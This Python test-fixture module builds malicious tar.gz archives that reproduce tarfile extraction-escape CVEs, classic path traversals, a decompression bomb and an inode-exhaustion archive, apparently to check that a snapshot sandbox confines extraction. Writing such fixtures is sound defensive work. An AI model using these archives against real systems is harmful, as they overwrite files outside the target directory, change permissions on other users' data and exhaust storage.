"""Tar archives that escape their extraction directory through Python's ``tarfile`` (the public
descriptions of CVE-2025-4517, CVE-2025-4138, CVE-2025-4330, CVE-2025-4435, CVE-2024-12718, and
of the 2026 reports on empty-named symlinks and the hard-link extraction fallback), written here
from those descriptions, plus the classic ones. Each builder returns the tar.gz bytes; ``MARK``
is in every name and content they try to put outside, so a test can look for it anywhere.

The targets assume the layout of ``tests/integration/test_snapshots.py``: the home is ``<homes root>/<agent>``;
``<homes root>/flag`` is a file outside every home; ``<homes root>/other`` is another agent's home.
"""

from __future__ import annotations

import io
import os
import tarfile
import uuid

MARK = f"pwned-{uuid.uuid4().hex[:8]}"


class _Maker:
    def __init__(self) -> None:
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz", format=tarfile.PAX_FORMAT)

    def add(
        self,
        name: str,
        *,
        kind: bytes = tarfile.REGTYPE,
        content: bytes = b"",
        link: str = "",
        mode: int = 0o644,
        size: int | None = None,
    ) -> None:
        info = tarfile.TarInfo(name)
        info.type = kind
        info.mode = mode
        info.linkname = link
        info.size = len(content) if size is None else size
        self.tar.addfile(info, io.BytesIO(content) if kind == tarfile.REGTYPE else None)

    def bytes(self) -> bytes:
        self.tar.close()
        return self.buf.getvalue()


def realpath_overflow(home: str) -> bytes:
    """CVE-2025-4517: directories with long names and one-letter symlinks to them, chained until
    the expanded path passes PATH_MAX; ``realpath`` stops expanding there, so a last link that climbs
    back up looks inside to the filter while it points above the home. Through it: a hard link to
    ``<homes root>/flag`` overwritten, and a new file next to the homes."""
    m = _Maker()
    steps = "abcdefghijklmnop"
    path_max = os.pathconf("/", "PC_PATH_MAX")
    component = "d" * ((path_max - len(home) - 1) // (len(steps) + 1))
    path = ""
    for step in steps:
        m.add(os.path.join(path, component), kind=tarfile.DIRTYPE, mode=0o777)
        m.add(os.path.join(path, step), kind=tarfile.SYMTYPE, link=component)
        path = os.path.join(path, component)
    linkpath = os.path.join(*steps, "l" * 254)
    m.add(linkpath, kind=tarfile.SYMTYPE, link=os.path.join(*[".."] * len(steps)))
    m.add("escape", kind=tarfile.SYMTYPE, link=os.path.join(linkpath, ".."))
    m.add("flaglink", kind=tarfile.LNKTYPE, link=os.path.join("escape", "flag"))
    m.add("flaglink", content=MARK.encode())
    m.add(f"escape/newfile-{MARK}", content=MARK.encode())
    return m.bytes()


def parent_symlink_chain() -> bytes:
    """CVE-2025-4138: a link to ``.``, a link to ``..`` written through it, and a file written
    through the second: each member alone looks inside the home."""
    m = _Maker()
    m.add("current", kind=tarfile.SYMTYPE, link=".")
    m.add("current/parent", kind=tarfile.SYMTYPE, link="..")
    m.add(f"parent/escaped-{MARK}", content=MARK.encode())
    return m.bytes()


def link_through_link() -> bytes:
    """CVE-2025-4330: a link whose target climbs out through another link of the archive, then a
    hard link to a file outside through it, and a file written through it."""
    m = _Maker()
    m.add("deep/er", kind=tarfile.DIRTYPE, mode=0o755)
    m.add("jump", kind=tarfile.SYMTYPE, link="deep/er")
    m.add("out", kind=tarfile.SYMTYPE, link="jump/../../..")
    m.add("hard", kind=tarfile.LNKTYPE, link="out/flag")
    m.add(f"out/escaped-{MARK}", content=MARK.encode())
    return m.bytes()


def metadata_through_link() -> bytes:
    """CVE-2024-12718: members that change the mode (and times) of something outside: a directory,
    then a link of the same name to another agent's home, then the directory again with new bits."""
    m = _Maker()
    m.add("d", kind=tarfile.DIRTYPE, mode=0o755)
    m.add("d", kind=tarfile.SYMTYPE, link="../other")
    m.add("d", kind=tarfile.DIRTYPE, mode=0o777)
    m.add("m", kind=tarfile.SYMTYPE, link="../flag")
    m.add("m", content=MARK.encode(), mode=0o777)
    return m.bytes()


def refused_member_among_good_ones() -> bytes:
    """CVE-2025-4435: with ``errorlevel=0`` a member the filter refused was extracted anyway. Good
    members, then a refused one, then good ones: none of them may be written."""
    m = _Maker()
    m.add("good-1.txt", content=b"fine")
    m.add(f"../escaped-{MARK}", content=MARK.encode())
    m.add("good-2.txt", content=b"fine")
    return m.bytes()


def empty_named_links() -> bytes:
    """2026 (an empty-named symlink chain bypasses ``data_filter``): links whose names are empty,
    then a file written through them."""
    m = _Maker()
    m.add("", kind=tarfile.SYMTYPE, link="..")
    m.add("", kind=tarfile.SYMTYPE, link="../..")
    m.add(f"/escaped-{MARK}", content=MARK.encode())
    return m.bytes()


def hardlink_fallback() -> bytes:
    """2026 (a symlink escape through the hard-link extraction fallback): a hard link to a symlink
    member, extracted as a copy of that link when the hard link cannot be made."""
    m = _Maker()
    m.add("inside", kind=tarfile.SYMTYPE, link="sub")
    m.add("sub", kind=tarfile.DIRTYPE, mode=0o755)
    m.add("copy", kind=tarfile.LNKTYPE, link="inside")
    m.add("copy/../../escaped", content=MARK.encode())
    return m.bytes()


def classic(kind: str) -> bytes:
    """The escapes tarfile's filters were made for: an absolute name, ``..``, a device, a FIFO, a
    setuid file, and an absolute symlink with a file written through it."""
    m = _Maker()
    if kind == "absolute":
        m.add(f"/tmp/{MARK}-absolute", content=MARK.encode())
    elif kind == "dotdot":
        m.add(f"a/../../{MARK}-dotdot", content=MARK.encode())
    elif kind == "device":
        m.add(f"dev-{MARK}", kind=tarfile.CHRTYPE)
    elif kind == "fifo":
        m.add(f"fifo-{MARK}", kind=tarfile.FIFOTYPE)
    elif kind == "setuid":
        m.add(f"suid-{MARK}", content=b"#!/bin/sh\n", mode=0o4755)
    elif kind == "absolute-link":
        m.add("tmp", kind=tarfile.SYMTYPE, link="/tmp")
        m.add(f"tmp/{MARK}-through-link", content=MARK.encode())
    else:
        raise ValueError(kind)
    return m.bytes()


def zeros(size: int) -> bytes:
    """A file of ``size`` zero bytes: a few hundred KB of tar.gz that asks for ``size`` bytes."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo(f"zeros-{MARK}")
        info.size = size

        class Zeros(io.RawIOBase):
            left = size

            def readable(self) -> bool:
                return True

            def readinto(self, b: bytearray) -> int:  # type: ignore[override]
                n = min(len(b), self.left)
                b[:n] = bytes(n)
                self.left -= n
                return n

        tar.addfile(info, io.BufferedReader(Zeros()))
    return buf.getvalue()


def many(count: int) -> bytes:
    """``count`` empty files: more entries than a small home's file system has inodes."""
    m = _Maker()
    for i in range(count):
        m.add(f"f{i}")
    return m.bytes()


ESCAPES = {
    "CVE-2025-4517 realpath overflow": "realpath_overflow",
    "CVE-2025-4138 parent symlink chain": "parent_symlink_chain",
    "CVE-2025-4330 link through link": "link_through_link",
    "CVE-2024-12718 metadata through link": "metadata_through_link",
    "CVE-2025-4435 refused member among good ones": "refused_member_among_good_ones",
    "2026 empty-named links": "empty_named_links",
    "2026 hard-link fallback": "hardlink_fallback",
    "absolute name": "classic:absolute",
    "dot-dot": "classic:dotdot",
    "device": "classic:device",
    "fifo": "classic:fifo",
    "setuid": "classic:setuid",
    "absolute link": "classic:absolute-link",
    "a zip bomb: 100 MiB of zeros for a 64 MB home": "bomb:zeros",
    "more members than the home has inodes": "bomb:many",
}


def build(name: str, home: str) -> bytes:
    """The archive ``ESCAPES[name]`` for a home at ``home``."""
    spec = ESCAPES[name]
    if spec.startswith("classic:"):
        return classic(spec.split(":", 1)[1])
    if spec == "bomb:zeros":
        return zeros(100 << 20)
    if spec == "bomb:many":
        return many(20_000)
    if spec == "realpath_overflow":
        return realpath_overflow(home)
    builders = {
        "parent_symlink_chain": parent_symlink_chain,
        "link_through_link": link_through_link,
        "metadata_through_link": metadata_through_link,
        "refused_member_among_good_ones": refused_member_among_good_ones,
        "empty_named_links": empty_named_links,
        "hardlink_fallback": hardlink_fallback,
    }
    return builders[spec]()
